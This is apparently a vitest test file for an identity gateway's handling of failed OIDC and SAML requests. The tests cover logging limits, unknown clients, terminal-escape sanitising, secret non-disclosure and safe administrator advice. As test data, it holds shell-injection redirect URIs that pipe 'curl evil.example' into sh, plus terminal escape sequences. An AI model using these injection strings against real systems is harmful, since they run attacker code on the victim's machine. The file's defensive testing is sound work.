/** Whoever makes up requests of an app: they fill nothing, reach no terminal, learn nothing, and get nobody to register them. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { failuresOf, referenceOn } from '../support/failures.ts'
import { type Gateway, startGateway } from '../support/gateway.ts'
import { POLICIES } from '../support/policies.ts'
import { CALLBACK } from '../support/relying-party.ts'
import { redirectTo, requestXml } from '../support/saml-app.ts'
import { movableClock } from './people.ts'

const ENTITY = 'https://crm.kestrel.example/metadata'
let gateway: Gateway
const clock = movableClock()
const { portico, all, last, logged } = failuresOf(() => gateway, clock)

const oidc = (id: string) => ({
  id,
  name: id,
  policy: 'plain',
  audience: ['staff'],
  oidc: { redirect_uris: [CALLBACK] },
})
beforeAll(async () => {
  gateway = await startGateway({
    clock,
    policies: POLICIES,
    apps: [
      ...['web', 'terminal', 'guessed', 'advice'].map(oidc),
      {
        id: 'crm',
        name: 'CRM',
        policy: 'plain',
        audience: ['staff'],
        saml: { entity_id: ENTITY, acs_urls: ['https://crm.kestrel.example/acs'] },
      },
    ] as never,
  })
})
afterAll(() => gateway.close())

const ask = (parameters: Record<string, string>) =>
  fetch(
    `${gateway.issuer}/oauth2/auth?${new URLSearchParams({ response_type: 'code', scope: 'openid', ...parameters })}`,
    {
      redirect: 'manual',
      headers: { accept: 'text/html' },
    },
  )
const rows = () => gateway.server.house.storage.records.selectFrom('app_failures').selectAll().execute()

test('a hundred requests with an address each are one row, a few lines, and one reference', async () => {
  const pages = await Promise.all(
    Array.from({ length: 100 }, async (_, i) =>
      (await ask({ client_id: 'web', redirect_uri: `https://evil.example/${i}` })).text(),
    ),
  )
  expect(new Set(pages.map(referenceOn)).size).toBe(1)
  expect((await rows()).filter(({ app }) => app === 'web')).toHaveLength(1)
  expect(logged('web').length).toBeLessThanOrEqual(6)
  await gateway.server.tick()
  expect(await all('web')).toMatchObject([{ count: 100, reference: referenceOn(pages[0]!) }])
})

test('clients that nobody registered are counted, and nothing is kept of them', async () => {
  const before = await rows()
  const answers = await Promise.all(
    Array.from({ length: 100 }, (_, i) => ask({ client_id: `nobody-${i}`, redirect_uri: CALLBACK })),
  )
  const basic = await fetch(`${gateway.issuer}/oauth2/token`, {
    method: 'POST',
    headers: { authorization: `Basic ${btoa('nobody-at-all:x')}` },
    body: new URLSearchParams({ grant_type: 'authorization_code' }),
  })
  expect([...new Set(answers.map(({ status }) => status)), basic.status]).toEqual([400, 401])
  expect(await rows()).toEqual(before)
  clock.at += 10_000
  await ask({ client_id: 'nobody', redirect_uri: CALLBACK })
  const lines = gateway
    .log()
    .split('\n')
    .filter((line) => line.includes('"app-unknown"'))
  expect(lines.map((line) => JSON.parse(line).count)).toEqual([1, 101])
  expect(lines.join()).not.toContain('nobody')
})

const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\u009b31m\r\n\u2028\u202edrow\u200b\u0000`'

test('nothing that a request says moves the cursor of whoever looks at it', async () => {
  await ask({ client_id: 'terminal', redirect_uri: `https://x.example/${ESCAPES}` })
  await ask({ client_id: 'terminal', redirect_uri: CALLBACK, scope: `openid groups ${ESCAPES}` })
  const attributes = {
    AssertionConsumerServiceURL: `https://x.example/${[...ESCAPES].filter((sign) => sign >= ' ').join('')}`,
  }
  await fetch(
    redirectTo(
      `${gateway.issuer}/saml/sso`,
      requestXml(gateway.issuer, { issuer: ENTITY, at: clock.now(), attributes }),
    ),
  )
  expect((await all('terminal')).length).toBeGreaterThan(0)
  expect(await all('crm')).toHaveLength(1)
  for (const id of ['terminal', 'crm']) {
    const { reference } = (await all(id))[0]!
    for (const words of [
      ['apps', 'show', id],
      ['policy', 'explain', '--receipt', reference],
      ['audit', 'search', '--receipt', reference],
    ])
      for (const more of [[], ['--json']]) {
        const { out, err } = await portico(...words, ...more)
        expect(out, words.join(' ')).toMatch(/^[\x20-\x7e\n]+$/)
        expect(err).toBe('')
      }
  }
  expect(gateway.log()).toMatch(/^[\x20-\x7e\n]+$/)
})

test('a secret that somebody tries stands nowhere, and the answer does not tell a near one from a far one', async () => {
  const tried = async (secret: string, inHeader: boolean) => {
    const response = await fetch(`${gateway.issuer}/oauth2/token`, {
      method: 'POST',
      headers: inHeader ? { authorization: `Basic ${btoa(`guessed:${encodeURIComponent(secret)}`)}` } : {},
      body: new URLSearchParams({
        ...(inHeader ? {} : { client_id: 'guessed', client_secret: secret }),
        grant_type: 'authorization_code',
        code: 'x',
      }),
    })
    return { status: response.status, body: await response.text() }
  }
  for (const inHeader of [true, false]) {
    const far = await tried(' correct horse\n', inHeader)
    expect(await tried(` ${gateway.secrets.get('guessed')}\n`, inHeader)).toEqual(far)
  }
  expect(await all('guessed')).toMatchObject([{ cause: 'client-secret-wrong', count: 4 }])
  const { out } = await portico('apps', 'show', 'guessed')
  expect(out + gateway.log()).not.toMatch(/correct horse|correct%20horse/)
  expect(out + gateway.log()).not.toContain(gateway.secrets.get('guessed'))
})

test.each([
  "https://evil.example/';curl evil.example|sh;'",
  'http://localhost:9/$(curl evil.example)',
  'http://localhost:9/callback/../../evil',
  'http://evil.example/callback',
])('an administrator who copies the advice runs and registers nothing of %s', async (address) => {
  await ask({ client_id: 'advice', redirect_uri: address })
  for (const { fix } of await all('advice')) {
    for (const line of fix) expect(line).not.toMatch(/evil|curl/)
    for (const line of fix.filter((one) => one.startsWith('portico')))
      expect(line.split('    # ')[0]).toMatch(
        /^portico apps (?:snippet advice --for env|export advice > advice\.yaml)$/,
      )
  }
  const { said } = await last('advice', 'redirect-uri-wrong')
  expect(said).toContain('evil')
})
